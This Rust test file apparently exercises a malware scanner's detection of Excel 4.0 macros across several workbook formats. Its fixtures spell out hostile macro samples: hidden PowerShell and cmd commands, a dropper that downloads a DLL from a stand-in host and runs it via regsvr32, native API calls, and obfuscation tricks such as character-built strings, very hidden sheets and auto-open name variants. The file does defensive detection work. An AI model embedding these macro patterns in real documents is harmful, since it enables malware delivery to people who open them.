//! Macros of Excel 4.0: found in every file format, followed to what they would do, left in peace where they do
//! nothing, and bounded whatever they are.

use crate::common::excel4::{Book, Version, bare, book};
use crate::common::office::{Compound, Module, ModuleKind, xls_with_macros};
use sekisho::knowledge::Knowledge;
use sekisho::limits::Limits;
use sekisho::scan::{IndicatorKind, Input, Report, Stop, scan};
use sekisho::verdict::{Level, judge};

const COMMAND: &str = "powershell -w hidden -c calc";

fn report(name: &str, bytes: Vec<u8>) -> Report {
    scan(Input::file(bytes, name), &Limits::default(), &Knowledge::default(), &Stop::default())
}

/// Every file format of one workbook.
fn formats(book: &Book) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a.xls", book.xls(Version::Biff8)),
        ("b.xls", book.xls(Version::Biff5)),
        ("a.xlsm", book.xlsm()),
        ("a.xlsb", book.xlsb()),
    ]
}

fn ids(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|finding| finding.id.as_str()).collect()
}

fn evidence<'a>(report: &'a Report, id: &str) -> Vec<&'a str> {
    let findings = report.findings.iter().filter(|finding| finding.id.as_str() == id);
    findings.map(|finding| finding.evidence.as_str()).collect()
}

fn commands(report: &Report) -> Vec<&str> {
    let commands = report.indicators.iter().filter(|indicator| indicator.kind == IndicatorKind::Command);
    commands.map(|indicator| indicator.value.as_str()).collect()
}

/// What the macros of a workbook start, as an XML workbook.
fn started(macros: &[&str]) -> Vec<String> {
    let report = report("a.xlsm", book(macros).xlsm());
    let mut found = evidence(&report, "xlm-run-program");
    found.extend(evidence(&report, "xlm-run-interpreter"));
    found.into_iter().map(str::to_owned).collect()
}

#[test]
fn a_command_is_found_in_every_format() {
    let macros = [&format!("=EXEC(\"{COMMAND}\")")[..], "=RETURN()"];
    let all = formats(&book(&macros)).into_iter().chain([("a.slk", book(&macros).sylk())]);
    for (name, bytes) in all {
        let report = report(name, bytes);
        assert_eq!(judge(&report).level, Level::Malicious, "{name} {report:#?}");
        let found = report.findings.iter().find(|found| found.id.as_str() == "xlm-run-interpreter").unwrap();
        let sheet = if name == "a.slk" { "SYLK" } else { "Macro1" };
        assert_eq!(
            (found.evidence.as_str(), found.location.as_str()),
            (&format!("EXEC({COMMAND})")[..], &format!("{sheet}!A1")[..]),
            "{name}"
        );
        assert!(ids(&report).contains(&"xlm-auto-open") && commands(&report).contains(&COMMAND), "{name} {report:#?}");
    }
}

#[test]
fn a_dropper_is_told_whole_in_every_format() {
    let macros = [
        "=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",\"fetch\",,1,9)",
        "=fetch(0,\"http://a.example/x.dll\",\"..\\x.ocx\",0,0)",
        "=EXEC(Sheet1!B2&\" ..\\x.ocx\")",
        "=HALT()",
    ];
    let mut book = book(&macros);
    // Binary formulas name functions of libraries by defined names.
    book.names.push(("fetch".to_owned(), true, "=0".to_owned()));
    for (name, bytes) in formats(&book) {
        let report = report(name, bytes);
        assert_eq!(judge(&report).level, Level::Malicious, "{name} {report:#?}");
        assert_eq!(evidence(&report, "xlm-run-interpreter"), ["EXEC(regsvr32.exe ..\\x.ocx)"], "{name}");
        assert!(evidence(&report, "xlm-download").iter().any(|text| text.contains("a.example")), "{name} {report:#?}");
        let url = report.indicators.iter().find(|indicator| indicator.kind == IndicatorKind::Url);
        assert_eq!(url.map(|url| url.value.as_str()), Some("http://a.example/x.dll"), "{name}");
    }
}

#[test]
fn honest_macros_are_left_in_peace() {
    let macros = [
        "=ECHO(FALSE)",
        "=SELECT(Sheet1!A1)",
        "=FORMULA(\"=SUM(R1C1:R5C1)\",Sheet1!A6)",
        "=FORMULA(\"Total\",Sheet1!B6)",
        "=SET.VALUE(C1,INPUT(\"How many?\",1))",
        "=IF(C1>5,GOTO(A9))",
        "=ALERT(\"Done\",2)",
        "=RETURN()",
        "=CALL(\"user32\",\"FindWindowA\",\"JCC\",\"x\",\"y\")",
        "=RETURN()",
    ];
    for (name, bytes) in formats(&book(&macros)) {
        let report = report(name, bytes);
        let verdict = judge(&report);
        assert_eq!(verdict.level, Level::Active, "{name} {report:#?}");
        assert!(verdict.complete, "{name} {report:#?}");
        assert!(ids(&report).contains(&"xlm-startup"), "{name} {report:#?}");
    }
}

#[test]
fn sheets_that_nobody_sees_are_told() {
    let mut hidden = book(&["=EXEC(\"notepad\")", "=HALT()"]);
    for (state, is_told) in [(0, false), (1, false), (2, true)] {
        hidden.sheets[1].state = state;
        for (name, bytes) in formats(&hidden) {
            let report = report(name, bytes);
            assert_eq!(ids(&report).contains(&"xlm-hidden-sheet"), is_told, "{name} {state}");
            let level = if is_told { Level::Malicious } else { Level::Suspicious };
            assert_eq!(judge(&report).level, level, "{name} {state}");
        }
    }
    let report = report("a.xls", hidden.xls(Version::Biff8));
    assert_eq!(evidence(&report, "xlm-macros"), ["Macro1, very hidden"]);
}

#[test]
fn every_name_that_excel_runs_is_known_and_no_other() {
    let mut book = book(&["=EXEC(\"calc.exe\")", "=HALT()"]);
    for (name, starts) in [
        ("AUTO_OPEN", true),
        ("auto_open_x", true),
        ("Auto_Close", true),
        ("Auto_Activate9", true),
        ("Ａuto_Open", true),
        ("MyAuto_Open", false),
        ("Autoopen", false),
    ] {
        book.names[0].0 = name.to_owned();
        let found = report("a.xlsm", book.xlsm());
        assert_eq!(ids(&found).contains(&"xlm-auto-open"), starts, "{name}");
        // What nobody starts is told all the same.
        assert!(ids(&found).contains(&"xlm-run-program"), "{name}");
    }
    book.names[0] = ("Auto_Open".to_owned(), true, "=Macro1!A1".to_owned());
    assert!(ids(&report("a.xlsm", book.xlsm())).contains(&"xlm-obfuscated"), "under a hidden name");
}

#[test]
fn texts_are_put_together_as_excel_would() {
    for (formula, command) in [
        ("=EXEC(CHAR(99)&CHAR(97)&\"lc\"&\".exe\")", "calc.exe"),
        ("=EXEC(MID(\"xxcalc.exe\",3,99))", "calc.exe"),
        ("=EXEC(SUBSTITUTE(\"c#lc.exe\",\"#\",\"a\"))", "calc.exe"),
        ("=EXEC(CONCATENATE(\"ca\",LOWER(\"LC\"),\".exe\"))", "calc.exe"),
        ("=EXEC(INDEX({\"x.exe\",\"calc.exe\"},2))", "…"),
        ("=EXEC(CHOOSE(2,\"x.exe\",\"calc.exe\"))", "calc.exe"),
        ("=EXEC(IF(1=2,\"x.exe\",\"calc.exe\"))", "calc.exe"),
        ("=EXEC(REPT(\"a\",2)&T(5)&CHAR(HEX2DEC(\"2E\"))&\"exe\")", "aa.exe"),
        ("=EXEC(INDIRECT(\"Sheet1!B2\")&\" x\")", "regsvr32.exe x"),
        ("=EXEC(INDIRECT(ADDRESS(9,1))&\" x\")", "calc.exe x"),
        ("=EXEC(OFFSET(Macro1!A1,8,0)&\" y\")", "calc.exe y"),
        ("=EXEC(EVALUATE(\"\"\"calc\"\"&CHAR(46)\")&\"exe\")", "calc.exe"),
        ("=EXEC(GET.WORKSPACE(19)&\".exe\")", "TRUE.exe"),
        ("=EXEC(\"calc \"&GET.DOCUMENT(1))", "calc …"),
    ] {
        let macros = [formula, "=HALT()", "", "", "", "", "", "", "calc.exe"];
        assert_eq!(started(&macros), [format!("EXEC({command})")], "{formula}");
    }
}

#[test]
fn the_flow_is_followed_wherever_it_goes() {
    let cases: &[&[&str]] = &[
        &["=GOTO(A3)", "=EXEC(\"never\")", "=EXEC(\"calc.exe\")", "=HALT()"],
        &["=RUN(A4)", "=EXEC(B1)", "=HALT()", "=SET.VALUE(B1,\"calc.exe\")", "=RETURN()"],
        &["=A4()", "=EXEC(B1)", "=HALT()", "=SET.VALUE(B1,\"calc.exe\")", "=RETURN()"],
        &["=SET.NAME(\"x\",\"calc\")", "=EXEC(x&\".exe\")", "=HALT()"],
        &["=FORMULA(\"=EXEC(\"\"calc.exe\"\")\",A3)", "=GOTO(A3)", "", "=HALT()"],
        &["=FORMULA(\"=EXEC(R1C2)\",A3)", "=SET.VALUE(B1,\"calc.exe\")", "", "=HALT()"],
        &[
            "=SET.VALUE(B1,\"\")",
            "=FOR(\"i\",0,2)",
            "=SET.VALUE(B1,B1&MID(\"calc.exe\",i*3+1,3))",
            "=NEXT()",
            "=EXEC(B1)",
            "=HALT()",
        ],
        &[
            "=SET.NAME(\"i\",0)",
            "=WHILE(i<3)",
            "=SET.VALUE(B1,B1&MID(\"calc.exe\",i*3+1,3))",
            "=SET.NAME(\"i\",i+1)",
            "=NEXT()",
            "=EXEC(B1)",
            "=HALT()",
        ],
        &["=FOR.CELL(\"c\",A7:A9)", "=SET.VALUE(B1,B1&c)", "=NEXT()", "=EXEC(B1)", "=HALT()", "", "ca", "lc", ".exe"],
        &["=IF(1=2)", "=EXEC(\"never\")", "=ELSE()", "=EXEC(\"calc.exe\")", "=END.IF()", "=HALT()"],
        &["=IF(GET.WORKSPACE(42),,CLOSE(FALSE))", "=EXEC(\"calc.exe\")", "=HALT()"],
        &["=IF(GET.WORKSPACE(13)<700,GOTO(A4))", "=HALT()", "", "=EXEC(\"calc.exe\")", "=HALT()"],
        &["=ON.TIME(NOW()+1,\"A3\")", "=HALT()", "=EXEC(\"calc.exe\")", "=HALT()"],
        &["=SELECT(Macro1!B5)", "=FORMULA(\"calc.exe\")", "=EXEC(ACTIVE.CELL())", "=HALT()"],
        &["=DEFINE.NAME(\"f\",\"=Macro1!R4C1\")", "=f()", "=HALT()", "=EXEC(\"calc.exe\")", "=RETURN()"],
        &["=A3(\"calc\")", "=HALT()", "=ARGUMENT(\"what\")", "=EXEC(what&\".exe\")", "=RETURN()"],
    ];
    for macros in cases {
        let report = report("a.xlsm", book(macros).xlsm());
        let reached = ids(&report).contains(&"xlm-auto-open");
        let told = evidence(&report, "xlm-run-program");
        assert!(reached && told.contains(&"EXEC(calc.exe)"), "{macros:?} {report:#?}");
    }
}

#[test]
fn what_nobody_can_know_is_told_as_such() {
    let macros =
        ["=FORMULA(CHAR(GET.CELL(17,B1)),C1)", "=FORMULA(CHAR(GET.CELL(19,B2)),C2)", "=FORMULA(C1&C2,A5)", "=GOTO(A5)"];
    let mut book = book(&macros);
    book.sheets[1].state = 2;
    let report = report("a.xlsm", book.xlsm());
    assert_eq!(evidence(&report, "xlm-self-writing"), ["FORMULA × 3"]);
    assert_eq!(judge(&report).level, Level::Malicious);
}

#[test]
fn functions_of_libraries_are_judged_by_what_they_do() {
    for (call, id) in [
        (
            "=CALL(\"urlmon\",\"URLDownloadToFileW\",\"JJCCJJ\",0,\"http://a.example/a\",\"a\",0,0)",
            Some("xlm-download"),
        ),
        (
            "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"cmd.exe\",\"/c x\",0,0)",
            Some("xlm-run-interpreter"),
        ),
        ("=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"c:\\a\\b.exe\",0)", Some("xlm-run-program")),
        ("=CALL(\"kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,9,4096,64)", Some("xlm-native-call")),
        ("=CALL(\"C:\\Users\\Public\\x.dll\",\"Start\",\"J\")", Some("xlm-native-call")),
        ("=CALL(\"kernel32\",GET.CELL(5,B9)&GET.DOCUMENT(1),\"J\")", Some("xlm-native-call")),
        ("=FOPEN(\"C:\\Users\\Public\\x.vbs\",3)", Some("xlm-drop-file")),
        ("=FOPEN(\"C:\\data\\x.csv\",3)", Some("xlm-write-file")),
        ("=OPEN(\"https://a.example/a.xls\")", Some("xlm-download")),
        ("=INITIATE(\"cmd\",\"/c calc\")", Some("dde-command")),
        ("=FOPEN(\"C:\\data\\x.exe\",2)", None),
        ("=CALL(\"user32\",\"GetDesktopWindow\",\"J\")", None),
        ("=OPEN(\"C:\\data\\a.xls\")", None),
    ] {
        let report = report("a.xlsm", book(&[call, "=HALT()"]).xlsm());
        let told: Vec<&str> = ids(&report)
            .into_iter()
            .filter(|id| !["xlm-macros", "xlm-auto-open", "xlm-startup"].contains(id))
            .collect();
        assert_eq!(told, id.into_iter().collect::<Vec<_>>(), "{call}");
    }
}

#[test]
fn vba_that_hands_formulas_over_is_judged_by_them() {
    let of = |code: &str| {
        let code = format!("Sub Workbook_Open()\n{code}\nEnd Sub\n");
        let module: Module<'_> = ("ThisWorkbook", &code, ModuleKind::Document);
        report("a.xls", xls_with_macros(&["a"], &[module]))
    };
    let found = of("ExecuteExcel4Macro \"EXEC(\"\"cmd /c calc\"\")\"");
    assert_eq!(judge(&found).level, Level::Malicious, "{found:#?}");
    assert_eq!(evidence(&found, "xlm-run-interpreter"), ["EXEC(cmd /c calc)"]);
    let found = of(
        "ExecuteExcel4Macro \"CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCJJ\"\",0,\"\"http://a.example/\"\",\"\"a\"\",0,0)\"",
    );
    assert!(ids(&found).contains(&"xlm-download"), "{found:#?}");
    let found = of("ExecuteExcel4Macro Range(\"A1\").Value");
    assert!(ids(&found).contains(&"vba-dynamic-call"), "{found:#?}");
    for honest in ["\"GET.DOCUMENT(50)\"", "\"'C:\\[a.xls]Sheet1'!R1C1\"", "\"SHOW.TOOLBAR(\"\"Ribbon\"\",False)\""] {
        let found = of(&format!("x = ExecuteExcel4Macro({honest})"));
        assert_eq!(judge(&found).level, Level::Active, "{honest} {found:#?}");
    }
    let found = of("ExecuteExcel4Macro \"Macro1!CloseMe()\"");
    assert_eq!((judge(&found).level, ids(&found).contains(&"vba-calls-xlm")), (Level::Active, true), "{found:#?}");
}

#[test]
fn so_many_formulas_of_vba_are_followed_and_the_rest_is_told_as_not_known() {
    for (count, is_told) in [(99, false), (100, false), (101, true)] {
        let lines: String = (0..count).map(|n| format!("ExecuteExcel4Macro \"ALERT({n})\"\n")).collect();
        let code = format!("Sub Workbook_Open()\n{lines}End Sub\n");
        let report = report("a.xls", xls_with_macros(&["a"], &[("ThisWorkbook", &code, ModuleKind::Document)]));
        assert_eq!(ids(&report).contains(&"vba-dynamic-call"), is_told, "{count}");
    }
    // One that grows and grows costs no more than another.
    let long = format!("ExecuteExcel4Macro \"LEN(REPT({}\"\"x\"\",60000{}))\"\n", "REPT(".repeat(2), ",2)".repeat(2));
    let code = format!("Sub Workbook_Open()\n{long}End Sub\n");
    report("a.xls", xls_with_macros(&["a"], &[("ThisWorkbook", &code, ModuleKind::Document)]));
}

#[test]
fn macros_that_never_end_come_to_an_end() {
    let long = format!("={}1{}", "(".repeat(7000), ")".repeat(7000));
    let cases: &[(&[&str], bool)] = &[
        (&["=GOTO(A1)"], true),
        (&["=WHILE(TRUE)", "=NEXT()"], true),
        (&["=FOR(\"i\",1,1E+300)", "=SET.VALUE(B1,B1&\"xxxxxxxxxxxxxxxx\")", "=NEXT()", "=HALT()"], true),
        (&["=RUN(A1)"], true),
        (&["=WHILE(TRUE)", "=SET.VALUE(B1,SUM(C1:Z4000)&REPT(\"x\",60000))", "=NEXT()"], true),
        (
            &[
                "=WHILE(TRUE)",
                "=SET.VALUE(B1,SUBSTITUTE(REPT(\"ab\",9000),\"a\",\"bc\"))",
                "=SET.VALUE(B2,MID(B1,9,9)&LEN(B1))",
                "=NEXT()",
            ],
            true,
        ),
        (&["=WHILE(TRUE)", "=FORMULA(\"=\"&REPT(\"(\",9000),B1)", "=IF(B9,GOTO(A3))", "=NEXT()"], true),
        (&["=FORMULA(\"=GOTO(R1C1)\",A2)"], true),
        (&["=SET.VALUE(A1:XFD1048576,1)", "=HALT()"], false),
        (&["=FORMULA.FILL(REPT(\"x\",30000),A5:XFD9999)", "=HALT()"], false),
        (&["=SUM(A1:XFD1048576)", "=HALT()"], false),
        (&["=SET.NAME(\"x\",1)", "=EVALUATE(\"EVALUATE(x)\")", "=HALT()"], false),
        (&[&long, "=HALT()"], false),
    ];
    for (macros, is_cut) in cases {
        let report = report("a.xlsm", book(macros).xlsm());
        let told = evidence(&report, "limit-exceeded").contains(&"macros run longer than they are followed");
        assert_eq!(told, *is_cut, "{:?} {report:#?}", macros.first().map(|text| text.get(..20).unwrap_or(text)));
        if *is_cut {
            assert!(!judge(&report).complete);
        }
    }
    // Names that stand for each other.
    let mut cycle = book(&["=EXEC(a)", "=HALT()"]);
    cycle.names.push(("a".to_owned(), false, "=b&1".to_owned()));
    cycle.names.push(("b".to_owned(), false, "=a&1".to_owned()));
    for (name, bytes) in formats(&cycle) {
        assert!(ids(&report(name, bytes)).contains(&"xlm-run-program"), "{name}");
    }
}

#[test]
fn sheets_that_share_what_they_claim_are_read_once_and_not_a_thousand_times() {
    let mut book = book(&["=EXEC(\"calc\")", "=HALT()"]);
    let blank = book.sheets[0].clone();
    book.sheets.extend((0..998).map(|_| blank.clone()));
    let sane = book.xls(Version::Biff8);
    assert!(judge(&report("a.xls", sane)).complete);
    // Every sheet begins with the first, and none ends.
    let mut stream = book.stream(Version::Biff8);
    let sheet = [0x85, 0x00];
    let first = stream.windows(2).position(|two| two == sheet).unwrap() + 4;
    let start: [u8; 4] = stream[first..first + 4].try_into().unwrap();
    let mut at = 0;
    while at + 4 < stream.len() {
        let size = usize::from(u16::from_le_bytes([stream[at + 2], stream[at + 3]]));
        if stream[at..at + 2] == sheet {
            stream[at + 4..at + 8].copy_from_slice(&start);
        } else if stream[at..at + 2] == [0x0A, 0x00] && at > first {
            stream[at] = 0x5C;
        }
        at += 4 + size;
    }
    stream.extend([0x5C, 0x00, 0x00, 0x10].iter().chain(&[0; 0x1000]).copied().collect::<Vec<u8>>().repeat(500));
    let report = report("a.xls", Compound::new().stream("/Workbook", &stream).finish());
    assert!(!judge(&report).complete, "{report:#?}");
}

#[test]
fn damaged_workbooks_are_read_as_far_as_they_go() {
    let book = book(&["=EXEC(\"cmd /c calc\")", "=HALT()"]);
    for (name, bytes) in [("a.slk", book.sylk()), ("a.xls", book.xls(Version::Biff8)), ("a.xlsb", book.xlsb())] {
        for cut in (0..bytes.len()).step_by(97) {
            report(name, bytes[..cut].to_vec());
        }
        for at in (0..bytes.len()).step_by(31) {
            let mut damaged = bytes.clone();
            damaged[at] ^= 0xFF;
            report(name, damaged);
        }
    }
}

#[test]
fn macros_whose_cells_show_nothing_are_told_if_they_do_something() {
    for (look, is_told) in [(1, true), (2, true), (3, false)] {
        let mut book = book(&["=EXEC(\"notepad\")", "=HALT()"]);
        book.look = look;
        for (name, bytes) in formats(&book) {
            let report = report(name, bytes);
            assert_eq!(ids(&report).contains(&"xlm-obfuscated"), is_told, "{name} {look} {report:#?}");
            let level = if is_told { Level::Malicious } else { Level::Suspicious };
            assert_eq!(judge(&report).level, level, "{name} {look}");
        }
    }
    let mut honest = book(&["=ALERT(\"Done\")", "=HALT()"]);
    honest.look = 1;
    for (name, bytes) in formats(&honest) {
        assert_eq!(judge(&report(name, bytes)).level, Level::Active, "{name}");
    }
}

#[test]
fn macros_far_from_the_corner_are_told_if_they_do_something() {
    let at = |macros: &[&str], column: &str, row: u32| {
        let mut book = book(macros);
        for (n, (place, _)) in book.sheets[1].cells.iter_mut().enumerate() {
            *place = format!("{column}{}", row + n as u32);
        }
        book.names[0].2 = format!("=Macro1!${column}${row}");
        book
    };
    for (column, row, is_told) in
        [("A", 1, false), ("A", 500, false), ("A", 501, true), ("BH", 1, false), ("BI", 1, true)]
    {
        for (name, bytes) in formats(&at(&["=EXEC(\"notepad\")", "=HALT()"], column, row)) {
            let report = report(name, bytes);
            assert_eq!(ids(&report).contains(&"xlm-obfuscated"), is_told, "{name} {column}{row} {report:#?}");
        }
    }
    // Macros that only another name leads to.
    let mut elsewhere = at(&["=EXEC(\"notepad\")", "=HALT()"], "A", 9000);
    elsewhere.names =
        vec![("Auto_Open".to_owned(), false, "=x".to_owned()), ("x".to_owned(), false, "=Macro1!$A$9000".to_owned())];
    assert!(ids(&report("a.xlsm", elsewhere.xlsm())).contains(&"xlm-obfuscated"));
}

#[test]
fn workbooks_without_a_compound_file_are_read() {
    let macros = book(&[&format!("=EXEC(\"{COMMAND}\")")[..], "=RETURN()"]);
    let streams = [Version::Biff8, Version::Biff5].map(|version| macros.stream(version));
    for bytes in streams.into_iter().chain([2, 3, 4].map(|generation| bare(generation, COMMAND))) {
        let report = report("a.xls", bytes);
        assert_eq!(report.parts[0].types[0].name(), "biff");
        assert_eq!(judge(&report).level, Level::Malicious, "{report:#?}");
        assert_eq!(evidence(&report, "xlm-run-interpreter"), [format!("EXEC({COMMAND})")], "{report:#?}");
        assert!(ids(&report).contains(&"xlm-auto-open") && judge(&report).complete, "{report:#?}");
    }
    // A sheet of macros may come first, without the workbook around it.
    let stream = macros.stream(Version::Biff8);
    let sheet = [9_u8, 8, 8, 0, 0, 6, 0x40, 0];
    let at = stream.windows(8).position(|eight| eight == sheet).unwrap();
    assert!(ids(&report("a.xls", stream[at..].to_vec())).contains(&"xlm-run-interpreter"));

    let plain = Book { sheets: vec![book(&[]).sheets[0].clone()], ..Book::default() };
    for bytes in
        [plain.stream(Version::Biff8), plain.stream(Version::Biff5), b"\x09\0\x04\0\x02\0\x10\0\x0a\0\0\0".to_vec()]
    {
        let report = report("a.xls", bytes);
        assert_eq!((report.parts[0].types[0].name(), ids(&report).len()), ("biff", 0), "{report:#?}");
    }
    // FILEPASS comes first.
    let locked = [&stream[..12], b"\x2f\0\x06\0\0\0\0\0\0\0", &stream[12..]].concat();
    assert_eq!(ids(&report("a.xls", locked)), ["document-encrypted"]);
}

#[test]
fn damaged_sheets_of_old_are_read_as_far_as_they_go() {
    for generation in [2, 3, 4] {
        let bytes = bare(generation, "calc");
        for at in 0..bytes.len() {
            report("a.xls", bytes[..at].to_vec());
            for value in [0, 1, 0x7F, 0xFF] {
                let mut damaged = bytes.clone();
                damaged[at] = value;
                report("a.xls", damaged);
            }
        }
    }
}
